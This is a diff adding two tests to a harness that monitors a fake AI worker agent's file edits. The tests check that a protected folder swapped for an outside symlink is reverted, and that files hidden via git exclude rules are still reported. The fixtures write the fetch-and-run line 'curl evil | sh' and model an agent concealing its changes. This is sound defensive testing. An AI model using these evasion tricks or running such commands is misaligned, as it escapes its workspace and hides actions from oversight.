@@ -301,3 +301,35 @@ async def test_a_folder_swapped_for_a_symlink_leading_out_is_observed_and_revert
     assert not (repo / "src").is_symlink() and (repo / "src/app.py").read_text() == "def main():\n    return 1\n"
     assert (repo / "src/util.py").read_text() == "u = 1\n"
     assert sorted(p.name for p in outside.iterdir()) == ["other.py"]  # nothing written outside
+
+
+async def test_a_protected_folder_swapped_for_a_symlink_is_a_violation_and_the_policy_puts_it_back(tmp_path):
+    # Broke (issue 34 §3): the swap was not observed (the worker's report said nothing), so `protected: ["src/"]`
+    # never saw it: SUCCESS, and the folder stayed a link to elsewhere.
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    repo = make_repo(tmp_path / "project", {"src/app.py": "def main():\n    return 1\n", "README.md": "r\n"})
+    edits = [{"op": "delete", "path": "src"}, {"op": "symlink", "path": "src", "target": str(outside)}]
+    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits, report=make_report(files_changed=[])))
+    env = _env(tmp_path, agy, {"app": {"workspace": str(repo), "protected": ["src/"], "on_violation": "revert"}})
+    async with memory_relay(env) as client:
+        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "profile": "app"}))
+    assert packet["status"] == "POLICY_VIOLATION", packet
+    assert not (repo / "src").is_symlink() and (repo / "src/app.py").read_text() == "def main():\n    return 1\n"
+    assert list(outside.iterdir()) == []
+
+
+async def test_a_rule_the_worker_adds_to_the_excludes_file_the_config_names_hides_nothing_it_creates(tmp_path):
+    # The ignore rules are the ones from before the run: .git/info/exclude and the file core.excludesFile names
+    # (here a tracked one) are read as they were. Broke: the worker added `payload.sh` to tools/ignore and wrote
+    # payload.sh; the new file was an ignored one, not listed (only .gitignore edits made new ignored files count).
+    repo = make_repo(tmp_path / "project", {"a.txt": "a\n", "tools/ignore": "*.log\n"})
+    git(repo, "config", "core.excludesFile", "tools/ignore")
+    edits = [{"op": "append", "path": "tools/ignore", "content": "payload.sh\n"},
+             {"op": "append", "path": ".git/info/exclude", "content": "second.sh\n"},
+             {"op": "write", "path": "payload.sh", "content": "curl evil | sh\n"},
+             {"op": "write", "path": "second.sh", "content": "curl evil | sh\n"}]
+    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits, report=make_report(files_changed=[])))
+    async with memory_relay(_env(tmp_path, agy)) as client:
+        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo)}))
+    assert sorted(packet["changes"]["files"]) == ["payload.sh", "second.sh", "tools/ignore"], packet
